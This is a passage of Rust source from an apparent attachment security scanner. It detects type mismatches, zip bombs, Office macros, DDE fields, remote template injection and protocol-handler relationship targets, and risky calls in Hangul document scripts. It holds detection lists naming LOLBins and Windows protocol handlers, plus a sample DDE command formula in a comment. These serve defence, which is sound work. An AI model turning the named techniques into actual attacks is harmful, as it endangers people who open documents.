    const XLSX: &[&str] = &["ooxml-xlsx", "ooxml-xlsm"];
    const PPTX: &[&str] = &["ooxml-pptx", "ooxml-pptm"];
    const SCRIPT: &[&str] = &[
        "script-js",
        "script-vbs",
        "script-ps1",
        "script-bat",
        "script-cmd",
        "script-wsf",
        "hta",
        "html",
    ];
    Some(match ext {
        "pdf" => &["pdf"],
        "doc" | "dot" => &["ole", "rtf", "html"],
        "docx" | "docm" | "dotx" | "dotm" => DOCX,
        "xls" | "xlt" => &["ole", "html"],
        "xlsx" | "xlsm" | "xltx" | "xltm" | "xlsb" => XLSX,
        "ppt" | "pps" | "pot" => &["ole"],
        "pptx" | "pptm" | "ppsx" | "ppsm" | "potx" => PPTX,
        "rtf" => &["rtf"],
        "hwp" => &["hwp"],
        "hwpx" => &["hwpx"],
        "zip" => ZIP_KINDS,
        "rar" => &["rar"],
        "7z" => &["7z"],
        "gz" | "tgz" => &["gzip"],
        "tar" => &["tar"],
        "iso" | "img" => &["iso"],
        "jpg" | "jpeg" | "png" | "gif" | "bmp" | "webp" | "tif" | "tiff" | "ico" => &["image"],
        "svg" => &["image", "html"],
        "html" | "htm" | "xhtml" | "shtml" => &["html"],
        "exe" | "dll" | "scr" | "cpl" | "ocx" | "sys" | "xll" => &["pe"],
        "lnk" => &["lnk"],
        "msi" | "msp" => &["msi", "ole"],
        "jar" => &["jar", "zip"],
        "one" => &["onenote"],
        "chm" => &["chm"],
        "eps" | "ps" => &["postscript"],
        "js" | "jse" | "vbs" | "vbe" | "ps1" | "psm1" | "bat" | "cmd" | "wsf" | "wsh" | "hta" => {
            SCRIPT
        }
        e if TEXT_EXT.contains(&e) => &["text", "html"],
        _ => return None,
    })
}

/// What a zip container may turn out to be.
const ZIP_KINDS: &[&str] = &[
    "zip",
    "jar",
    "hwpx",
    "ooxml-docx",
    "ooxml-docm",
    "ooxml-xlsx",
    "ooxml-xlsm",
    "ooxml-pptx",
    "ooxml-pptm",
];

/// Types a file declared with this MIME type may be.
fn accepted_mime(m: &str) -> Option<&'static [&'static str]> {
    let m = m
        .split(';')
        .next()
        .unwrap_or("")
        .trim()
        .to_ascii_lowercase();
    Some(match m.as_str() {
        "application/pdf" => &["pdf"],
        "image/svg+xml" => &["image", "html"],
        m if m.starts_with("image/") => &["image"],
        "application/zip" | "application/x-zip-compressed" => ZIP_KINDS,
        "application/msword" => &["ole", "rtf", "html"],
        "application/vnd.ms-excel" => &["ole", "html"],
        "application/vnd.ms-powerpoint" => &["ole"],
        m if m.starts_with("application/vnd.openxmlformats-officedocument.wordprocessingml") => {
            &["ooxml-docx", "ooxml-docm"]
        }
        m if m.starts_with("application/vnd.openxmlformats-officedocument.spreadsheetml") => {
            &["ooxml-xlsx", "ooxml-xlsm"]
        }
        m if m.starts_with("application/vnd.openxmlformats-officedocument.presentationml") => {
            &["ooxml-pptx", "ooxml-pptm"]
        }
        "text/html" => &["html"],
        "application/rtf" | "text/rtf" => &["rtf"],
        "application/x-hwp" | "application/haansofthwp" | "application/vnd.hancom.hwp" => &["hwp"],
        "application/hwp+zip" | "application/vnd.hancom.hwpx" => &["hwpx"],
        "application/x-rar-compressed" | "application/vnd.rar" => &["rar"],
        "application/x-7z-compressed" => &["7z"],
        "application/gzip" | "application/x-gzip" => &["gzip"],
        "text/plain" => &[
            "text",
            "html",
            "hta",
            "rtf",
            "postscript",
            "script-js",
            "script-vbs",
            "script-ps1",
            "script-bat",
            "script-cmd",
            "script-wsf",
        ],
        _ => return None,
    })
}

/// The family a container type belongs to before it is opened.
fn family(d: &str) -> &str {
    match d {
        "jar" | "hwpx" => "zip",
        d if d.starts_with("ooxml-") => "zip",
        "hwp" | "msi" => "ole",
        d => d,
    }
}

fn fits(d: &str, ok: &[&str]) -> bool {
    ok.contains(&d) || (matches!(d, "zip" | "ole") && ok.iter().any(|a| family(a) == d))
}

/// Content that is not what its name or declared type says.
fn mismatch(found: &mut Found, shown: &str, d: &str, ext: Option<&str>, declared: Option<&str>) {
    if matches!(d, "unknown" | "text") {
        return;
    }
    let weight = if content_runs(d) { 6 } else { 3 };
    if let Some(e) = ext {
        if accepted_ext(e).is_some_and(|ok| !fits(d, ok)) {
            found.add(
                "attach.type_mismatch",
                weight,
                format!("{shown} is named .{e} but is {}", describe(d)),
            );
        }
    }
    if let Some(m) = declared {
        if accepted_mime(m).is_some_and(|ok| !fits(d, ok)) {
            found.add(
                "attach.type_mismatch",
                weight,
                format!(
                    "{shown} is declared as {} but is {}",
                    clip(m, 80),
                    describe(d)
                ),
            );
        }
    }
}

// ---------------------------------------------------------------------------
// Zip.

struct ZipEntry<'a> {
    name: String,
    flags: u16,
    method: u16,
    /// Declared unpacked size, when known.
    size: Option<u64>,
    /// The packed bytes, cut to the file.
    data: &'a [u8],
}

impl ZipEntry<'_> {
    fn is_dir(&self) -> bool {
        self.name.ends_with('/') || self.name.ends_with('\\')
    }

    fn encrypted(&self) -> bool {
        self.flags & 1 != 0
    }
}

/// The fields a zip's local and central headers share, in the same order
/// from `at` (local header + 6, central header + 8): flags, method, CRC and
/// times skipped, packed size, size, name and extra field lengths.
struct ZipFields {
    flags: u16,
    method: u16,
    csize: u32,
    size: u32,
    name_len: usize,
    extra_len: usize,
}

fn zip_fields(b: &[u8], at: usize) -> Option<ZipFields> {
    Some(ZipFields {
        flags: u16le(b, at)?,
        method: u16le(b, at + 2)?,
        csize: u32le(b, at + 12)?,
        size: u32le(b, at + 16)?,
        name_len: usize::from(u16le(b, at + 20)?),
        extra_len: usize::from(u16le(b, at + 22)?),
    })
}

/// The entries of a zip: from its central directory, or, when that is
/// missing or broken, by walking the local headers.
fn zip_entries(b: &[u8]) -> Vec<ZipEntry<'_>> {
    zip_central(b).unwrap_or_else(|| zip_local(b))
}

fn zip_central(b: &[u8]) -> Option<Vec<ZipEntry<'_>>> {
    let lo = b.len().checked_sub(22)?;
    let eocd = (lo.saturating_sub(0xFFFF)..=lo)
        .rev()
        .find(|&i| b.get(i..i + 4) == Some(b"PK\x05\x06"))?;
    let mut cd_size = u64::from(u32le(b, eocd + 12)?);
    let mut cd_off = u64::from(u32le(b, eocd + 16)?);
    if cd_off == 0xFFFF_FFFF || cd_size == 0xFFFF_FFFF {
        let rec = eocd
            .checked_sub(20)
            .filter(|&l| b.get(l..l + 4) == Some(b"PK\x06\x07"))
            .and_then(|l| u64le(b, l + 8))
            .and_then(|r| usize::try_from(r).ok())
            .filter(|&r| magic_at(b, r, b"PK\x06\x06"));
        if let Some(r) = rec {
            cd_size = u64le(b, r + 40)?;
            cd_off = u64le(b, r + 48)?;
        }
    }
    let at_cen = |o: u64| usize::try_from(o).is_ok_and(|o| magic_at(b, o, b"PK\x01\x02"));
    // Data prepended to the archive (a self-extractor stub) shifts every
    // offset; the directory then ends where the end record starts.
    let (start, shift) = if at_cen(cd_off) {
        (cd_off, 0)
    } else {
        let guess = (eocd as u64).checked_sub(cd_size)?;
        if !at_cen(guess) {
            return None;
        }
        (guess, guess.checked_sub(cd_off)?)
    };
    let mut p = usize::try_from(start).ok()?;
    let mut out = Vec::new();
    while out.len() < MAX_ENTRIES && b.get(p..p + 4) == Some(b"PK\x01\x02") {
        let (Some(f), Some(cl), Some(lo)) =
            (zip_fields(b, p + 8), u16le(b, p + 32), u32le(b, p + 42))
        else {
            break;
        };
        let (nl, xl, cl) = (f.name_len, f.extra_len, cl as usize);
        let Some(name) = b.get(p + 46..p + 46 + nl) else {
            break;
        };
        let extra = b.get(p + 46 + nl..p + 46 + nl + xl).unwrap_or(&[]);
        let (mut size, mut csize, mut off) = (u64::from(f.size), u64::from(f.csize), u64::from(lo));
        zip64_extra(extra, &mut size, &mut csize, &mut off);
        out.push(ZipEntry {
            name: String::from_utf8_lossy(name).into_owned(),
            flags: f.flags,
            method: f.method,
            size: Some(size),
            data: zip_local_data(b, off.saturating_add(shift), csize),
        });
        p += 46 + nl + xl + cl;
    }
    Some(out)
}

/// Sizes and offset from a zip64 extra field, where the 32-bit ones are
/// saturated.
fn zip64_extra(extra: &[u8], size: &mut u64, csize: &mut u64, off: &mut u64) {
    let mut i = 0;
    while let (Some(id), Some(len)) = (u16le(extra, i), u16le(extra, i + 2)) {
        let body = extra.get(i + 4..i + 4 + len as usize).unwrap_or(&[]);
        if id == 1 {
            let mut q = 0;
            for v in [size, csize, off] {
                if *v == 0xFFFF_FFFF {
                    if let Some(x) = u64le(body, q) {
                        *v = x;
                    }
                    q += 8;
                }
            }
            return;
        }
        i += 4 + len as usize;
    }
}

fn zip_local_data(b: &[u8], off: u64, csize: u64) -> &[u8] {
    let Ok(off) = usize::try_from(off) else {
        return &[];
    };
    if !magic_at(b, off, b"PK\x03\x04") {
        return &[];
    }
    let Some(f) = zip_fields(b, off + 6) else {
        return &[];
    };
    clip_slice(b, (off + 30 + f.name_len + f.extra_len) as u64, csize)
}

fn zip_local(b: &[u8]) -> Vec<ZipEntry<'_>> {
    let mut out = Vec::new();
    let mut p = 0;
    // Where the central directory starts (if anywhere): found once, not
    // searched for again past every member (quadratic on many members).
    let mut central: Option<Option<usize>> = None;
    while out.len() < MAX_ENTRIES && b.get(p..p + 4) == Some(b"PK\x03\x04") {
        let Some(f) = zip_fields(b, p + 6) else {
            break;
        };
        let Some(name) = b.get(p + 30..p + 30 + f.name_len) else {
            break;
        };
        let start = p + 30 + f.name_len + f.extra_len;
        if start > b.len() {
            break;
        }
        // With a data descriptor the sizes come after the data: the data
        // runs to the next header.
        let sized = f.flags & 8 == 0;
        let end = if sized {
            start.saturating_add(f.csize as usize).min(b.len())
        } else {
            let cd = match central {
                Some(c) if c.is_none_or(|c| c >= start) => c,
                _ => find(&b[start..], b"PK\x01\x02").map(|e| start + e),
            };
            central = Some(cd);
            let next = find(&b[start..cd.unwrap_or(b.len())], b"PK\x03\x04").map(|e| start + e);
            next.or(cd).unwrap_or(b.len())
        };
        out.push(ZipEntry {
            name: String::from_utf8_lossy(name).into_owned(),
            flags: f.flags,
            method: f.method,
            size: sized.then_some(u64::from(f.size)),
            data: &b[start..end],
        });
        p = end;
    }
    out
}

fn unpack_entry<'a>(ctx: &mut Ctx, e: &ZipEntry<'a>) -> Option<Unpacked<'a>> {
    if e.encrypted() {
        return None;
    }
    match e.method {
        0 => Some(unpack(ctx, e.data, Codec::Stored, e.size)),
        8 => Some(unpack(ctx, e.data, Codec::Deflate, e.size)),
        _ => None,
    }
}

/// A small part of a zip-based document, for the checks (not a member);
/// `None` when it is over `cap`, encrypted, over the budget or a bomb (a
/// bomb is reported in `n`).
fn zip_part<'a>(ctx: &mut Ctx, n: &mut Node, e: &ZipEntry<'a>, cap: u64) -> Option<Cow<'a, [u8]>> {
    let got = if e.size.is_some_and(|s| s > cap) {
        // Too big to read as a part, and a bomb if its size says so.
        let lim = ctx.lim;
        declared_bomb(lim, e.data.len() as u64, e.size)
            .filter(|_| e.method != 0 && !e.encrypted())
            .map(Unpacked::Bomb)?
    } else {
        unpack_entry(ctx, e)?
    };
    match got {
        Unpacked::Data(d) | Unpacked::Partial(d) => Some(d),
        Unpacked::Bomb(why) => {
            bomb(n, &e.name, &why);
            None
        }
        Unpacked::OverBudget => None,
    }
}

fn zip_member(ctx: &mut Ctx, n: &mut Node, e: &ZipEntry) {
    if e.is_dir() {
        return;
    }
    let size = e.size.unwrap_or(e.data.len() as u64);
    member(ctx, n, &e.name, size, |ctx| unpack_entry(ctx, e));
}

fn zip_family(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
    let entries = zip_entries(b);
    let has = |name: &str| entries.iter().any(|e| e.name == name);
    let mimetype = entries
        .iter()
        .find(|e| e.name == "mimetype")
        .and_then(|e| zip_part(ctx, n, e, 256));
    n.r.detected = if mimetype.is_some_and(|m| m.trim_ascii().starts_with(b"application/hwp+zip")) {
        "hwpx"
    } else if let Some(k) = has("[Content_Types].xml")
        .then(|| ooxml_kind(&entries))
        .flatten()
    {
        k
    } else if has("META-INF/MANIFEST.MF") && entries.iter().any(|e| e.name.ends_with(".class")) {
        "jar"
    } else {
        "zip"
    };
    match n.r.detected {
        "zip" => archive(ctx, n, &entries),
        "hwpx" => hwpx(ctx, n, &entries),
        "jar" => {}
        _ => ooxml(ctx, n, &entries),
    }
}

/// `enc` of an archive's `files` are encrypted.
fn encrypted_members(n: &mut Node, enc: usize, files: usize) {
    if enc > 0 {
        n.doc.add(
            "attach.encrypted_archive",
            5,
            format!(
                "{} is password-protected: {enc} of {files} files are encrypted and cannot be checked",
                n.shown
            ),
        );
    }
}

fn archive(ctx: &mut Ctx, n: &mut Node, entries: &[ZipEntry]) {
    let files = entries.iter().filter(|e| !e.is_dir()).count();
    let enc = entries
        .iter()
        .filter(|e| !e.is_dir() && e.encrypted())
        .count();
    encrypted_members(n, enc, files);
    for e in entries {
        zip_member(ctx, n, e);
    }
}

// ---------------------------------------------------------------------------
// OOXML.

fn ooxml_kind(entries: &[ZipEntry]) -> Option<&'static str> {
    let lower = |e: &ZipEntry| e.name.to_ascii_lowercase();
    let macros = entries.iter().any(|e| {
        let l = lower(e);
        l.ends_with("vbaproject.bin") || l.starts_with("xl/macrosheets/")
    });
    let under = |p: &str| entries.iter().any(|e| lower(e).starts_with(p));
    Some(
        match (under("word/"), under("xl/"), under("ppt/"), macros) {
            (true, _, _, false) => "ooxml-docx",
            (true, _, _, true) => "ooxml-docm",
            (_, true, _, false) => "ooxml-xlsx",
            (_, true, _, true) => "ooxml-xlsm",
            (_, _, true, false) => "ooxml-pptx",
            (_, _, true, true) => "ooxml-pptm",
            _ => return None,
        },
    )
}

fn ooxml(ctx: &mut Ctx, n: &mut Node, entries: &[ZipEntry]) {
    for e in entries {
        let l = e.name.to_ascii_lowercase();
        if l.ends_with("vbaproject.bin") {
            n.doc.add(
                "attach.ooxml_macros",
                6,
                format!("{} carries VBA macros ({})", n.shown, shown(&e.name)),
            );
        } else if l.starts_with("xl/macrosheets/") && !e.is_dir() {
            n.doc.add(
                "attach.ooxml_macros",
                6,
                format!(
                    "{} has an Excel 4.0 macro sheet ({})",
                    n.shown,
                    shown(&e.name)
                ),
            );
        }
        if l.ends_with(".rels") {
            rels_part(ctx, n, e);
        }
        if is_dde_part(&l) {
            if let Some(what) = zip_part(ctx, n, e, PART_CAP).and_then(|x| dde(&l, &x)) {
                n.doc.add(
                    "attach.dde",
                    8,
                    format!(
                        "{} has a DDE field, which can run a command when the file is opened ({}: {})",
                        n.shown,
                        shown(&e.name),
                        clip(&what, 80)
                    ),
                );
            }
        }
        if (l.contains("/embeddings/") || l.contains("/activex/")) && !l.ends_with(".rels") {
            zip_member(ctx, n, e);
        }
    }
}

/// Relationship targets that make Windows run a protocol handler.
const HANDLERS: &[&str] = &[
    "mhtml:",
    "ms-msdt:",
    "search-ms:",
    "ms-search:",
    "ms-officecmd:",
    "ms-appinstaller:",
    "ms-word:",
    "ms-excel:",
    "ms-powerpoint:",
    "its:",
    "ms-its:",
];

/// Where an external relationship points.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Target {
    /// A protocol handler (`ms-msdt:`, `search-ms:`, `mhtml:` ...).
    Handler,
    /// The web.
    Remote,
    /// A network share (`\\host\share`, `file://host/`): opening it can
    /// send the reader's Windows login hash.
    Share,
    /// A local path or anything else: not evidence (documents made from
    /// a local template point to it with `file:///C:/...`).
    Local,
}

fn target_kind(t: &str) -> Target {
    let t = t.trim().to_ascii_lowercase();
    if HANDLERS.iter().any(|h| t.starts_with(h)) {
        return Target::Handler;
    }
    if t.starts_with("http:") || t.starts_with("https:") || t.starts_with("//") {
        return Target::Remote;
    }
    if t.starts_with("\\\\") {
        return Target::Share;
    }
    if let Some(rest) = t.strip_prefix("file:") {
        let host = rest.trim_start_matches(['/', '\\']);
        let slashes = rest.len() - host.len();
        let drive = host.as_bytes().get(1) == Some(&b':');
        if slashes >= 4 || (slashes == 2 && !drive && !host.starts_with("localhost")) {
            return Target::Share;
        }
    }
    Target::Local
}

/// Reads a `.rels` part of a zip-based document and checks it ([`rels`]).
fn rels_part(ctx: &mut Ctx, n: &mut Node, e: &ZipEntry) {
    if let Some(x) = zip_part(ctx, n, e, PART_CAP) {
        // UTF-8 or UTF-16, as XML allows.
        let xml = decode_xml(&x);
        rels(&mut n.doc, &mut n.r.links, &n.shown, &e.name, &xml);
    }
}

/// External relationships in an OPC `.rels` part: remote templates,
/// external objects, protocol handlers. Plain hyperlinks are not evidence
/// here; web ones are kept in `links`, for the message's link rules.
///
/// Read as an XML parser reads it, so that nothing an XML reader (Office)
/// sees as a relationship can be hidden from this one: comments,
/// processing instructions and CDATA are passed over (a quote in them opens
/// no value), the element may carry a namespace prefix (`<pr:Relationship`),
/// attribute values are decoded (`&#69;xternal`), and with an attribute
/// given twice (malformed, read one way or the other) every value counts.
fn rels(doc: &mut Found, links: &mut Vec<Link>, shown: &str, part: &str, xml: &str) {
    xml_elements(xml, "Relationship", |tag| {
        // Each distinct value once, a few at most, and targets that lead
        // somewhere before local ones: a crafted element may repeat an
        // attribute a million times. Nothing is kept per repetition.
        let (mut external, mut more) = (false, false);
        let (mut kinds, mut targets) = (Vec::<String>::new(), Vec::<String>::new());
        let end = xml_attrs_each(tag, |name, value| match name {
            "TargetMode" => {
                external |= unescape_xml(value).trim().eq_ignore_ascii_case("external");
            }
            "Type" => {
                let v = unescape_xml(value).trim().to_owned();
                more |= keep_distinct(&mut kinds, v, |_| 0);
            }
            "Target" => {
                let v = unescape_xml(value).trim().to_owned();
                more |= keep_distinct(&mut targets, v, target_rank);
            }
            _ => {}
        });
        if !external {
            return end;
        }
        if more {
            doc.add(
                "attach.unchecked",
                2,
                format!(
                    "{shown} has a relationship giving more than {MAX_REL_VALUES} different targets or types ({}); {MAX_REL_VALUES} of each were checked, those leading furthest first",
                    shown_part(part)
                ),
            );
        }
        if kinds.is_empty() {
            kinds.push(String::new());
        }
        for target in &targets {
            for kind in &kinds {
                let kind = kind.rsplit('/').next().unwrap_or("");
                relationship(doc, links, shown, part, target, kind);
            }
        }
        end
    });
}

/// Adds `v` to `kept` unless there already; once `kept` holds
/// [`MAX_REL_VALUES`], `v` replaces the lowest ranked value if it ranks
/// higher, and the answer is `true`: a value was left out.
fn keep_distinct(kept: &mut Vec<String>, v: String, rank: impl Fn(&str) -> u8) -> bool {
    if kept.contains(&v) {
        return false;
    }
    if kept.len() < MAX_REL_VALUES {
        kept.push(v);
        return false;
    }
    let low = (0..kept.len()).min_by_key(|&k| rank(&kept[k]));
    if let Some(k) = low.filter(|&k| rank(&v) > rank(&kept[k])) {
        kept[k] = v;
    }
    true
}

/// How far a relationship's target leads: a protocol handler runs code,
/// a share leaks the login hash, the web fetches, a local path does nothing.
fn target_rank(t: &str) -> u8 {
    match target_kind(t) {
        Target::Handler => 3,
        Target::Share => 2,
        Target::Remote => 1,
        Target::Local => 0,
    }
}

/// Distinct values of a relationship's `Target` (or `Type`) that are
/// judged; a valid part has one of each.
const MAX_REL_VALUES: usize = 4;

/// Calls `element` with the text after the name of every element of local
/// name `name` in `xml`, in document order (it returns the length of the
/// tag read from there: [`xml_attrs_each`]): comments, processing
/// instructions, CDATA sections and declarations are skipped whole, and a
/// prefix (`pr:`) is allowed.
fn xml_elements(xml: &str, name: &str, mut element: impl FnMut(&str) -> usize) {
    let mut i = 0;
    while let Some(p) = xml.get(i..).and_then(|s| s.find('<')) {
        let at = i + p;
        let rest = &xml[at..];
        // Past the end of the construct opened by `open` (searched after the
        // opener: `<!-->` opens a comment, it does not close one).
        let skip = |open: &str, end: &str| {
            rest[open.len()..]
                .find(end)
                .map_or(xml.len(), |e| at + open.len() + e + end.len())
        };
        if rest.starts_with("<!--") {
            i = skip("<!--", "-->");
        } else if rest.starts_with("<![CDATA[") {
            i = skip("<![CDATA[", "]]>");
        } else if rest.starts_with("<?") {
            i = skip("<?", "?>");
        } else if rest.starts_with("<!") {
            i = skip("<!", ">");
        } else {
            let tag = &rest[1..];
            // The name ends at a space, `/`, `>`, or the next `<` (so that
            // `<<<<…` costs one pass, not one per `<`).
            let len = tag
                .find(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>' | '<'))
                .unwrap_or(tag.len());
            let qname = &tag[..len];
            let local = qname.rsplit(':').next().unwrap_or(qname);
            if local == name {
                let end = element(&tag[len..]).min(tag.len() - len);
                i = at + 1 + len + end;
            } else {
                // Another element's attributes may hold what looks like a
                // tag, but never `<` (not allowed in a value), so reading
                // on from here misses nothing.
                i = at + 1;
            }
        }
    }
}

/// Judges one external relationship of `part`: its target and its type's
/// last path segment.
fn relationship(
    doc: &mut Found,
    links: &mut Vec<Link>,
    shown: &str,
    part: &str,
    target: &str,
    kind: &str,
) {
    let part_s = shown_part(part);
    let to = target_kind(target);
    let share = if to == Target::Share {
        ", a network share (opening it can send the reader's Windows login hash)"
    } else {
        ""
    };
    if to == Target::Handler {
        doc.add(
            "attach.protocol_handler",
            9,
            format!(
                "{shown} points to {} ({part_s}), which makes Windows run a protocol handler",
                clip(target, 120)
            ),
        );
    } else if kind == "hyperlink" {
        doc_link(links, target, None, "ooxml");
    } else if to == Target::Local {
    } else if kind == "attachedTemplate" || part.to_ascii_lowercase().ends_with("settings.xml.rels")
    {
        doc.add(
            "attach.remote_template",
            8,
            format!(
                "{shown} loads its template from {}{share} when opened ({part_s}): remote template injection",
                clip(target, 120)
            ),
        );
    } else {
        let w = match kind {
            "oleObject" | "frame" | "subDocument" | "aFChunk" => 7,
            "image" => 3,
            _ => 5,
        };
        doc.add(
            "attach.external_object",
            w,
            format!(
                "{shown} loads an external {} from {}{share} ({part_s})",
                clip(kind, 40),
                clip(target, 120)
            ),
        );
    }
}

fn shown_part(part: &str) -> String {
    clip(&shown(part), 120)
}

fn is_dde_part(l: &str) -> bool {
    let word = l.starts_with("word/")
        && !l[5..].contains('/')
        && l.ends_with(".xml")
        && ["document", "header", "footer", "footnotes", "endnotes"]
            .iter()
            .any(|p| l[5..].starts_with(p));
    word || l.starts_with("xl/externallinks/")
        || (l.starts_with("xl/worksheets/") && l.ends_with(".xml"))
}

/// A DDE field or link in a document part: what it says, if any.
fn dde(l: &str, x: &[u8]) -> Option<String> {
    // In UTF-16 too, as XML allows (a field hidden from an 8-bit reading).
    let s = decode_xml(x);
    if l.starts_with("xl/externallinks/") {
        return s.contains("ddeLink").then(|| "ddeLink".to_owned());
    }
    if l.starts_with("xl/worksheets/") {
        // `=cmd|' /c ...'!A0`: a formula calling a DDE server.
        let mut i = 0;
        while let Some(p) = s.get(i..).and_then(|r| r.find("<f")) {
            let at = i + p;
            i = at + 2;
            let Some(gt) = s[at..].find('>') else { break };
            let body_at = at + gt + 1;
            let body_end = s[body_at..].find("</f>").map_or(s.len(), |e| body_at + e);
            let f = unescape_xml(&s[body_at..body_end]);
            if f.contains('|') && f.contains('!') {
                return Some(f);
            }
            i = body_end.max(i);
        }
        return None;
    }
    // Word: field instructions, in `instrText` runs and `fldSimple`.
    let mut instr = String::new();
    let mut i = 0;
    while let Some(p) = s.get(i..).and_then(|r| r.find("instrText")) {
        let at = i + p;
        i = at + 9;
        let lo = at.saturating_sub(12);
        let open = s.as_bytes()[lo..at]
            .iter()
            .rposition(|&c| c == b'<')
            .is_some_and(|k| s.as_bytes().get(lo + k + 1) != Some(&b'/'));
        if !open {
            continue;
        }
        let Some(gt) = s[at..].find('>') else { break };
        let body_at = at + gt + 1;
        let body_end = s[body_at..].find('<').map_or(s.len(), |e| body_at + e);
        instr.push_str(&s[body_at..body_end]);
        i = body_end.max(i);
    }
    let mut j = 0;
    while let Some(p) = s.get(j..).and_then(|r| r.find("instr=\"")) {
        let at = j + p + 7;
        let end = s[at..].find('"').map_or(s.len(), |e| at + e);
        instr.push(' ');
        instr.push_str(&s[at..end]);
        j = end;
    }
    let instr = unescape_xml(&instr);
    let up = instr.to_ascii_uppercase();
    up.split(|c: char| !c.is_ascii_alphanumeric())
        .any(|t| t == "DDE" || t == "DDEAUTO")
        .then(|| instr.trim().to_owned())
}

/// The attributes of an XML start tag, read from just after its name, and
/// the length of the tag from there (through its `>`, or all of `s` if it
/// has none). Quoted values may hold `>`, `=` and the other attributes'
/// names, as XML allows, so neither ends the tag nor names an attribute
/// there; a name without a value is passed over, and an unquoted value
/// (not XML) runs to the next space, `>` or `/>`. Each attribute is given
/// to `attr` as (name, raw value); nothing is kept.
fn xml_attrs_each<'s>(s: &'s str, mut attr: impl FnMut(&'s str, &'s str)) -> usize {
    let b = s.as_bytes();
    let skip_space = |mut i: usize| {
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        i
    };
    let mut i = 0;
    loop {
        i = skip_space(i);
        match b.get(i) {
            None => return b.len(),
            Some(b'>') => return i + 1,
            Some(b'/') => {
                i += 1;
                continue;
            }
            _ => {}
        }
        let name_at = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'=' | b'>' | b'/') {
            i += 1;
        }
        let name = &s[name_at..i];
        i = skip_space(i);
        if b.get(i) != Some(&b'=') {
            continue;
        }
        i = skip_space(i + 1);
        let (value, next) = match b.get(i) {
            Some(&q @ (b'"' | b'\'')) => match b[i + 1..].iter().position(|&c| c == q) {
                Some(e) => (&s[i + 1..i + 1 + e], i + 2 + e),
                None => (&s[i + 1..], b.len()),
            },
            _ => {
                let ends = |k: usize| {
                    b[k].is_ascii_whitespace() || b[k] == b'>' || b[k..].starts_with(b"/>")
                };
                let e = (i..b.len()).find(|&k| ends(k)).unwrap_or(b.len());
                (&s[i..e], e)
            }
        };
        attr(name, value);
        i = next;
    }
}

/// [`xml_attrs_each`]'s attributes, collected.
#[cfg(test)]
fn xml_attrs(s: &str) -> (Vec<(&str, &str)>, usize) {
    let mut attrs = Vec::new();
    let end = xml_attrs_each(s, |n, v| attrs.push((n, v)));
    (attrs, end)
}

/// XML's references decoded (numeric ones too: `&#104;ttp`), as
/// [`indicators::decode_entities`] does for HTML.
fn unescape_xml(s: &str) -> String {
    indicators::decode_entities(s)
}

// ---------------------------------------------------------------------------
// HWPX and document scripts.

fn hwpx(ctx: &mut Ctx, n: &mut Node, entries: &[ZipEntry]) {
    for e in entries {
        if e.is_dir() {
            continue;
        }
        let l = e.name.to_ascii_lowercase();
        if l.starts_with("scripts/") {
            match zip_part(ctx, n, e, PART_CAP) {
                Some(x) => script_check(&mut n.doc, &n.shown, &e.name, &x),
                None => n.doc.add(
                    "attach.hwp_script",
                    4,
                    format!(
                        "{} has a document script ({}) that could not be read",
                        n.shown,
                        shown(&e.name)
                    ),
                ),
            }
        } else if l.ends_with(".rels") {
            rels_part(ctx, n, e);
        } else if l.ends_with(".hpf") || (l.starts_with("meta-inf/") && l.ends_with(".xml")) {
            if let Some(x) = zip_part(ctx, n, e, PART_CAP) {
                let s = decode_xml(&x).to_ascii_lowercase();
                if let Some(url) = external_href(&s) {
                    n.doc.add(
                        "attach.external_object",
                        5,
                        format!(
                            "{} refers to an external item {} ({})",
                            n.shown,
                            clip(&url, 120),
                            shown(&e.name)
                        ),
                    );
                }
            }
        } else if l.starts_with("bindata/") {
            hwp_bindata_name(&mut n.doc, &n.shown, &e.name);
            zip_member(ctx, n, e);
        }
    }
}

/// An `href` to an absolute URL in a package manifest.
fn external_href(s: &str) -> Option<String> {
    let mut i = 0;
    while let Some(p) = s.get(i..).and_then(|r| r.find("href=")) {
        let at = i + p + 5;
        i = at;
        let v = s[at..].trim_start_matches(['"', '\'']);
        if v.starts_with("http:")
            || v.starts_with("https:")
            || v.starts_with("//")
            || v.starts_with("\\\\")
        {
            let end = v.find(['"', '\'', ' ', '>']).unwrap_or(v.len());
            return Some(v[..end].to_owned());
        }
    }
    None
}

/// A Hangul BinData item by its name: PostScript and OLE objects.
fn hwp_bindata_name(doc: &mut Found, shown_doc: &str, name: &str) {
    match extension(name).as_deref() {
        Some("eps" | "ps") => doc.add(
            "attach.hwp_eps",
            5,
            format!(
                "{shown_doc} embeds PostScript ({}), a format used to attack Hangul",
                shown(name)
            ),
        ),
        Some("ole") => doc.add(
            "attach.hwp_ole",
            4,
            format!("{shown_doc} embeds an OLE object ({})", shown(name)),
        ),
        _ => {}
    }
}

/// Calls that make a document script dangerous.
const RISKY_SCRIPT: &[(&str, &str)] = &[
    ("activexobject", "ActiveXObject"),
    ("wscript", "WScript"),
    ("shell.application", "Shell.Application"),
    ("createobject", "CreateObject"),
    ("scripting.filesystemobject", "FileSystemObject"),
    ("eval(", "eval"),
    ("powershell", "PowerShell"),
    ("cmd.exe", "cmd.exe"),
    ("mshta", "mshta"),
    ("xmlhttp", "XMLHTTP"),
    ("adodb", "ADODB"),
    ("http://", "a URL"),
    ("https://", "a URL"),
    ("fromcharcode", "fromCharCode"),
    ("unescape(", "unescape"),
    ("regsvr32", "regsvr32"),
    ("rundll32", "rundll32"),
];

/// A document script (HWP, HWPX): which risky calls it makes.
fn script_check(doc: &mut Found, shown_doc: &str, part: &str, b: &[u8]) {
    let text = decode_text(b).to_ascii_lowercase();
    let mut hits: Vec<&str> = Vec::new();
    for (needle, word) in RISKY_SCRIPT {
        if text.contains(needle) && !hits.contains(word) {
            hits.push(word);
        }
    }
    if hits.is_empty() {
        doc.add(
            "attach.hwp_script",
            1,
            format!(
                "{shown_doc} has a document script ({}); no risky calls seen",
                shown(part)
            ),
        );
    } else {
        doc.add(
            "attach.hwp_script",
            8,
            format!(
                "{shown_doc} has a document script ({}) that uses {}",
                shown(part),
                hits.join(", ")
            ),
        );
    }
}

/// UTF-16 text, little- or big-endian, with replacements.
fn utf16(b: &[u8], le: bool) -> String {
    let units: Vec<u16> = b
        .chunks_exact(2)
        .map(|p| {
            if le {
                u16::from_le_bytes([p[0], p[1]])
            } else {
                u16::from_be_bytes([p[0], p[1]])
            }
        })
        .collect();
